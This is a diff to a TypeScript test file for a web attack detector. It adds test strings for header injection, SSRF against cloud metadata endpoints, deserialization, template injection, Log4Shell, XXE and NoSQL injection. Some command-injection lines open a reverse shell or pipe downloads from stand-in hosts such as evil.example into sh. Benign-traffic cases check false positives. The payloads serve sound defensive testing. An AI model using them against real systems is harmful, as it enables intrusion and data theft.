@@ -1,7 +1,8 @@
-import { ATTACK_CATEGORIES, attackPatternsOf, IN_CONTEXT, matchesSequence, MAX_GAP } from './attack_patterns';
+import { SIGNS_VERSIONS } from './attack_categories';
+import { attackPatternsOf, MORE_KINDS, matchesSequence, MAX_GAP } from './attack_patterns';
 import { decodeText } from './text_statistics';
 
-const categoriesIn = (text: string, patterns = IN_CONTEXT): string[] => [
+const categoriesIn = (text: string, patterns = MORE_KINDS): string[] => [
   ...new Set(patterns.findIn(decodeText(text)).map((index) => patterns.patterns[index].category)),
 ];
 
@@ -51,6 +52,59 @@ describe('attack patterns', () => {
     ['scanner', 'Mozilla/4.0 (Hydra)'],
     ['scanner', 'Fuzz Faster U Fool v2.1.0'],
     ['scanner', 'WPScan v3.8.22 (https://wpscan.com/)'],
+    ['header_injection', '/p?x=1%0d%0aSet-Cookie:%20a=b'],
+    ['header_injection', '/p?x=1%250D%250AContent-Length:%200'],
+    ['header_injection', '/p?x=%0aHTTP/1.1%20200%20OK'],
+    ['header_injection', '/p?to=a@b.c%0abcc:x@y.z'],
+    ['header_injection', '/p?x=%E5%98%8A%E5%98%8DSet-Cookie:a'],
+    ['request_forgery', '/p?url=http%3A%2F%2F169.254.169.254/latest/meta-data/'],
+    ['request_forgery', '/p?url=http://metadata.google.internal/'],
+    ['request_forgery', '/p?url=http://0x7f000001/'],
+    ['request_forgery', '/p?url=http://127.1'],
+    ['request_forgery', '/p?url=http://[::ffff:127.0.0.1]/'],
+    ['request_forgery', '/p?url=http://localhost:22'],
+    ['request_forgery', '/p?url=gopher://127.0.0.1:6379/_INFO'],
+    ['request_forgery', '/p?url=dict://localhost:11211/stat'],
+    ['path_traversal', '/p?page=php://filter/convert.base64-encode/resource=index'],
+    ['object_injection', '/p?d=rO0ABXNyABFqYXZhLnV0aWw'],
+    ['object_injection', '/p?d=aced00057372'],
+    ['object_injection', '/p?d=O:8:"stdClass":1:{s:1:"a";i:1;}'],
+    ['object_injection', '/p?d=AAEAAAD%2F%2F%2F%2F%2FAQAAAA'],
+    ['object_injection', '/p?d=gASVIAAAAAAAAACMBXBvc2l4'],
+    ['object_injection', '{"rce":"_$$ND_FUNC$$_function(){}"}'],
+    ['object_injection', '{"@type":"com.sun.rowset.JdbcRowSetImpl"}'],
+    ['object_injection', '/p?__proto__[admin]=1'],
+    ['object_injection', '/p?constructor[prototype][admin]=1'],
+    ['template_injection', '/p?x=%25{(%23a=1)}'],
+    ['template_injection', '/p?x=${T(java.lang.Runtime)}'],
+    ['template_injection', '/p?class.module.classLoader.resources.x=1'],
+    ['template_injection', `/p?n={{ request.application${'.a'.repeat(60)} }}`],
+    ['template_injection', '/p?n={%25+import+os+%25}'],
+    ['template_injection', '/p?n=%23set($x=7*7)'],
+    ['log4shell', '${j${k8s:k5:-ND}i:ldap://x}'],
+    ['log4shell', '${jn${upper:d}i:ldap}'],
+    ['log4shell', '$%{jndi:ldap://x}'],
+    ['log4shell', '${script:javascript:1}'],
+    ['scanner', '/graphql?query={__schema{types{name}}}'],
+    ['scanner', 'Wapiti/3.0'],
+    ['command_injection', '/p?h=x|nslookup+evil.example'],
+    ['command_injection', '/p?h=;wget${IFS}evil'],
+    ['command_injection', '/p?h=x%26%26ls'],
+    ['command_injection', '/p?h=;bash+-i+>%26+/dev/tcp/1.2.3.4/99'],
+    ['command_injection', '/p?h=x;curl+evil.example/a|sh'],
+    ['command_injection', '/p?x=<?php+x;?>'],
+    ['command_injection', '/index.php?-d+allow_url_include%3don'],
+    ['xml_injection', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil/x.dtd"> %x;]>'],
+    ['xml_injection', "/p?u=x']|//*|//*['"],
+    ['xml_injection', '/p?u=string-length(//user[1]/name)'],
+    ['nosql_injection', '/p?username[$ne]=1&password%5B%24ne%5D=1'],
+    ['nosql_injection', '{"username":{"$ne":null}}'],
+    ['nosql_injection', '/p?x[$where]=1'],
+    ['ldap_injection', '/p?u=admin)(%26)'],
+    ['path_traversal', '/p?file=%e0%80%ae%e0%80%ae/x'],
+    ['path_traversal', '/p?file=%f0%80%80%ae%f0%80%80%ae/x'],
+    ['path_traversal', '/p?file=%2525252e%2525252e%2525252f'],
+    ['path_traversal', '/p?file=%uff0e%uff0e%u2215'],
   ])('finds %s in %s', (category, text) => expect(categoriesIn(text)).toContain(category));
 
   it.each([
@@ -144,7 +198,66 @@ describe('attack patterns', () => {
     ['order by', "/p?id=1'+order+by+5"],
     ['curl http', '/p?u=curl+http://a.b'],
   ])('names the sign %s as it stands in %s', (name, text) => {
-    expect(IN_CONTEXT.describe(decodeText(text)).map((sign) => sign.name)).toContain(name);
+    expect(MORE_KINDS.describe(decodeText(text)).map((sign) => sign.name)).toContain(name);
+  });
+
+  // Each looks like an attack of a further kind, and comes by the thousand in ordinary traffic.
+  it.each([
+    '/oauth/authorize?client_id=a&redirect_uri=http://localhost:3000/callback',
+    '/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2Fcallback',
+    '/oauth/authorize?redirect_uri=http://[::1]:61023/',
+    '/login?returnUrl=//home.m.shop.example/my',
+    '/_next/image?url=http%3A%2F%2Flocalhost%3A1337%2Fuploads%2Fa.jpg&w=640',
+    '/proxy?url=https://shop.example/img/a.png',
+    '/?utm_campaign={{campaign.name}}|{{campaign.id}}&utm_content={{ad.name}}',
+    '/img/{{item.image.url}}',
+    'Page bounds {{0, 0}, {400, 400}} (main)',
+    '/api/users?filters[id][$in]=1&filters[$or][0][title][$containsi]=x&filters[email][$eq]=a@b.c',
+    '/api/people?age[$gt]=5&$limit=10&status[$ne]=archived',
+    '/api/people?where={"deleted":{"$ne":null},"name":{"$regex":"^foo"}}',
+    "/odata/Products?$filter=Price gt 20 and Name eq 'Milk'&$orderby=Name",
+    '/graphql?query={product(id:5){name __typename price}}&variables={"id":5}',
+    '{"@context":"https://schema.org","@type":"Product","name":"Milk"}',
+    '{"$type":"Shop.Orders.Placed, Shop","Id":5}',
+    '/search?q=wget+%26+curl+tutorial',
+    '/search?q=alexa|echo+dot',
+    '/search?q=python|bash|go',
+    '/search?q=what+is+__proto__',
+    '/search?q=gasversorgung',
+    '/p?s=rO0m5sAyyQ&state=H4sIAAAAAAAAA6tWKkktLlGyUlAqS8wpTgUAEjc',
+    '/p?__VIEWSTATE=%2FwEPDwUKLTg',
+    '/calendar?details=Meeting%0D%0ALocation:%20https://zoom.example/j/1%0D%0AHost:%20Ann',
+    '/contact?message=Name:%20Ann%0D%0ASubject:%20Hi%0D%0ACc:%20x@y.z',
+    '/p?style={width:100%}',
+    '/find?q=a:2:{i:0;s:1:"x";i:1;s:1:"y";}',
+    '/list?fields=id;user;pwd;env;dir;hostname',
+    'Get "http://169.254.169.254/latest/meta-data/": context deadline exceeded',
+    'elasticsearch.url=http://localhost:9200 kibana.host=0.0.0.0',
+    'listening url=http://0.0.0.0:8080',
+    'Could not resolve placeholder in value "${spring.redis.host:${REDIS_HOST:localhost}}"',
+    'at java.lang.Runtime.loadLibrary0(Runtime.java:870)',
+    'at java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)',
+    'at ChildProcess.exithandler (node:child_process:414:12)',
+    'PHP Warning:  file_get_contents(http://a.b/c): failed to open stream in /srv/www/x.php on line 12',
+    "#0 /srv/a.php(12): call_user_func_array('x', Array)",
+    'in import_module  __import__(name)',
+    'Unexpected token, <!DOCTYPE html><html lang="en"> is not valid JSON',
+    'grok pattern %{NUMBER:bytes} %{WORD:verb} not matched',
+    'python-requests/2.31.0',
+    'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
+    '/redirect?u=https%253A%252F%252Fshop.example%252Fa%2526b',
+    '/p?q=%F0%9F%98%80+%E0%A4%B9%E0%A4%BF',
+  ])('takes %s for no attack', (text) => expect(categoriesIn(text)).toEqual([]));
+
+  it('leaves models that were trained before signs of more kinds as they are', () => {
+    const before = attackPatternsOf('in_context');
+    expect(before.patterns).toHaveLength(187);
+    expect(before.categories).not.toContain('header_injection');
+    expect(categoriesIn('/p?n={{campaign.name}}', before)).toEqual(['template_injection']);
+    for (const text of ['/p?d=rO0ABXNy', '/p?x=%0aSet-Cookie:a', '/p?f=%2525252e./x', '/p?f=%e0%80%ae./']) {
+      expect(categoriesIn(text, before)).toEqual([]);
+      expect(categoriesIn(text)).not.toEqual([]);
+    }
   });
 
   it('leaves models that were trained before as they are', () => {
@@ -157,7 +270,9 @@ describe('attack patterns', () => {
   });
 
   it('finds every pattern in its own text, whatever the filter by characters', () => {
-    for (const { patterns, isInContext } of [attackPatternsOf(undefined), IN_CONTEXT]) {
+    for (const { patterns, isInContext, categories } of [undefined, ...SIGNS_VERSIONS].map(
+      attackPatternsOf,
+    )) {
       const bare = new Map(patterns.map((pattern) => [pattern, pattern.sequences]));
       for (const [pattern, sequences] of bare) {
         for (const sequence of sequences) {
@@ -166,7 +281,7 @@ describe('attack patterns', () => {
           expect([pattern.name, matchesSequence(text, anywhere, isInContext)]).toEqual([pattern.name, true]);
         }
       }
-      expect(new Set(patterns.map(({ category }) => category)).size).toBe(ATTACK_CATEGORIES.length);
+      expect([...new Set(patterns.map(({ category }) => category))]).toEqual(categories);
     }
   });
 
